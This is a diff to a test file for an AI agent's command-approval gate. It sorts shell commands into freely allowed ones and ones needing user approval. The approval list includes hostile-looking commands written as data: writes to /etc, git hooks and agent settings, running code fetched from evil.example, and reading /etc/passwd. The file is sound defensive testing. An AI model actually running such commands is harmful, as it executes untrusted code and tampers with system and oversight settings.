@@ -10,6 +10,22 @@ import pytest
 from maestro.agents.gates import judge
 
 FREE = r"""
+pytest -m "not slow" tests
+pytest -q 2>&1 | tee out.log
+npm test 2>&1 | tee -a build/test.log | tail -20
+cargo run
+cargo run -q --example demo -- --help
+cargo run -- src/a.py -v
+go run .
+go run ./cmd
+pre-commit run --all-files
+pre-commit run ruff --files src/a.py
+prek run -a
+DJANGO_SETTINGS_MODULE=app.settings.test pytest -q
+DJANGO_SETTINGS_MODULE=app.settings python manage.py test app
+cat src/a.py | head -20
+tail -n +3 src/a.py | wc -l
+pytest -q | tail -3 | wc -l
 pytest
 pytest -q tests/test_a.py
 pytest -xvs "tests/test_a.py::test_one[a b]" --tb=short
@@ -204,6 +220,18 @@ mkdir -p tests/new && touch tests/new/__init__.py && pytest -q tests/new
 """.strip().splitlines()
 
 ASKING = r"""
+pytest | tee /etc/x
+pytest | tee ~/x
+pytest | tee .git/hooks/x
+pytest | tee .claude/settings.json
+pytest | tee src/*.py
+pytest | tee out/x
+pre-commit install
+pre-commit run --config rules
+pre-commit autoupdate
+go run example.com/x@latest
+DJANGO_SETTINGS_MODULE=app.settings.production pytest
+DJANGO_SETTINGS_MODULE=app.settings_prod pytest
 pytest -p evil
 pytest -c ../pytest.ini
 pytest --rootdir=/tmp
@@ -214,7 +242,6 @@ pytest --junitxml=../out.xml
 pytest --confcutdir=..
 pytest --cov-report=html:/tmp/x
 pytest -W error::evil.Warning
-pytest -m live
 pytest --pdb
 pytest ../other
 pytest @args
@@ -341,7 +368,11 @@ node x.js
 node --test ../x
 deno run -A x.ts
 deno test https://evil.example/x.ts
-cargo run
+cargo run -- deploy
+cargo run -- ../x
+cargo run -- --file=../../x
+cargo run -- /etc/passwd
+cargo run --manifest-path ../Cargo.toml
 cargo install x
 cargo publish
 cargo add x
@@ -384,7 +415,6 @@ uv run -m http.server
 mise exec node@20 -- pytest
 meson compile install
 go test -modfile=/tmp/go.mod ./...
-go run ./cmd
 go run example.com/evil@latest
 go generate ./...
 go install ./...
@@ -521,6 +551,8 @@ def test_own_tools_ask_in_the_strictest_mode(worktree: Path) -> None:
         ("pytest tests/unit -q", "uv run pytest tests/unit/test_a.py -x", "pytest tests/live"),
         ("uv run pytest tests/unit", ".venv/bin/python -m pytest tests/unit -k one", "uv run pytest"),
         ('pytest -m "not live"', 'pytest -q -m "not live" tests/test_a.py', "pytest tests/test_a.py"),
+        ('pytest -m "not live"', 'pytest -m "not live" -x', 'pytest -m "not live" -m live'),
+        ('pytest -k "not live"', 'pytest -k "not live" -x', 'pytest -k "not live" -k live'),
         ("pytest --deselect tests/live.py", "pytest --deselect tests/live.py tests/test_a.py", "pytest -x"),
         ("pytest -p my_plugin -q", "pytest -p my_plugin tests/test_a.py", "pytest tests/test_a.py"),
         ("cd packages/x && npx jest src", "cd packages/x && npx jest src/a.test.js", "npx jest live"),
@@ -537,3 +569,14 @@ def test_what_a_check_does_for_all_it_may_do_for_some_and_no_more(
 ) -> None:
     assert action(worktree, free, (check,)) == "allow"
     assert action(worktree, asks, (check,)) == "ask"
+
+
+def test_marks_that_the_repository_leaves_out_by_itself_are_not_brought_back_unasked(worktree: Path) -> None:
+    settings = worktree / "pytest.ini"
+    settings.write_text("[pytest]\naddopts = -q\n  -m 'not live'\n")
+    try:
+        assert action(worktree, "pytest -m live", ("pytest",)) == "ask"
+        assert action(worktree, "pytest -k one") == "allow"
+    finally:
+        settings.unlink()
+    assert action(worktree, "pytest -m live", ("pytest",)) == "allow"
